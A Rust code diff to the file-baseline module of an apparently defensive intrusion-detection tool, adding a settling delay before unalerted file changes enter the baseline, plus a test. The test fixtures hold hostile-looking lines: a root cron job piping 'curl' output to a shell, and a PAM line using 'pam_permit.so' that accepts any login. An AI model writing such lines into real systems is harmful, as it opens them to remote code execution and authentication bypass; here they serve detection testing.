@@ -96,7 +96,15 @@ pub struct Baseline {
     files: HashMap<String, Known>,
     /// Written by a process with an alert: the baseline keeps the content from before.
     tainted: HashSet<String>,
+    /// Changes seen by [`Baseline::refresh`] and not yet taken in: the stamp seen, and
+    /// since when.
+    settling: HashMap<String, ((i64, u64), std::time::Instant)>,
 }
+
+/// How long a change must stand, with no alert about it, before the baseline takes it in:
+/// the event of the write that made it may still be on its way through the ring buffer, and
+/// its alert would taint the file.
+pub const SETTLE: std::time::Duration = std::time::Duration::from_secs(3);
 
 fn lines_of(text: &str) -> Vec<String> {
     text.split_inclusive('\n').map(str::to_owned).collect()
@@ -177,30 +185,54 @@ impl Baseline {
 
     /// A process with an alert wrote `path`: keep what the baseline holds.
     pub fn taint(&mut self, path: &str) {
+        self.settling.remove(path);
         self.tainted.insert(path.to_owned());
     }
 
     /// An operator gave `path` back what a remediation took from it (an undo): what it holds
     /// now is what they want, and later remediations measure against it.
     pub fn accept(&mut self, path: &str) {
+        self.settling.remove(path);
         self.tainted.remove(path);
         self.files.remove(path);
         self.read(path);
     }
 
-    /// Takes in changes made without an alert (an administrator's edit).
+    /// Takes in changes made without an alert (an administrator's edit), once each has
+    /// stood unchanged and untainted for [`SETTLE`].
     pub fn refresh(&mut self) {
-        let changed: Vec<String> = self
+        self.refresh_at(std::time::Instant::now(), SETTLE);
+    }
+
+    fn refresh_at(&mut self, now: std::time::Instant, settle: std::time::Duration) {
+        let changed: Vec<(String, Option<(i64, u64)>)> = self
             .files
             .iter()
             .filter(|(p, _)| !self.tainted.contains(*p))
-            .filter(|(p, k)| stamp(Path::new(p)).is_none_or(|s| s != (k.mtime_ns, k.size)))
-            .map(|(p, _)| p.clone())
+            .filter_map(|(p, k)| {
+                let now = stamp(Path::new(p));
+                (now != Some((k.mtime_ns, k.size))).then(|| (p.clone(), now))
+            })
             .collect();
-        for p in changed {
-            self.files.remove(&p);
-            self.read(&p);
+        let mut still = HashMap::new();
+        for (p, seen) in changed {
+            // A file that is gone is forgotten at once: there is nothing to give back to.
+            let Some(seen) = seen else {
+                self.files.remove(&p);
+                continue;
+            };
+            let since = match self.settling.remove(&p) {
+                Some((s, since)) if s == seen => since,
+                _ => now,
+            };
+            if now.saturating_duration_since(since) >= settle {
+                self.files.remove(&p);
+                self.read(&p);
+            } else {
+                still.insert(p, (seen, since));
+            }
         }
+        self.settling = still;
     }
 
     /// The lines `path` holds now that the baseline lacks, with their line numbers, and the
@@ -456,6 +488,47 @@ mod tests {
         assert_eq!(
             fs::read_to_string(&f).expect("read"),
             "# m h dom mon dow command\n* * * * * root curl x|sh\n0 3 * * * root backup\n"
+        );
+    }
+
+    #[test]
+    fn a_change_is_taken_in_only_once_it_has_stood_without_an_alert() {
+        let d = tempfile::tempdir().expect("tempdir");
+        let f = d.path().join("sshd");
+        let path = f.to_string_lossy().into_owned();
+        let before = "auth required pam_unix.so\n";
+        fs::write(&f, before).expect("write");
+        let mut b = Baseline::default();
+        b.read(&path);
+        let after = "auth sufficient pam_permit.so\n";
+        fs::write(&f, after).expect("write");
+        let t0 = std::time::Instant::now();
+        let settle = std::time::Duration::from_secs(3);
+        // Seen changed, before its alert has come through: not taken in yet...
+        b.refresh_at(t0, settle);
+        b.refresh_at(t0 + std::time::Duration::from_secs(1), settle);
+        assert_eq!(
+            b.added(&path).expect("known").expect("read"),
+            vec![after.to_owned()]
+        );
+        // ...and the alert taints it: the baseline keeps what was there before.
+        b.taint(&path);
+        b.refresh_at(t0 + std::time::Duration::from_secs(10), settle);
+        assert_eq!(
+            b.added(&path).expect("known").expect("read"),
+            vec![after.to_owned()]
+        );
+        // An edit no alert names is taken in once it has stood for the settling time.
+        let mut b = Baseline::default();
+        fs::write(&f, before).expect("write");
+        b.read(&path);
+        fs::write(&f, after).expect("write");
+        b.refresh_at(t0, settle);
+        assert!(!b.added(&path).expect("known").expect("read").is_empty());
+        b.refresh_at(t0 + settle, settle);
+        assert!(
+            b.added(&path).expect("known").expect("read").is_empty(),
+            "an administrator's edit becomes the baseline"
         );
     }
 }
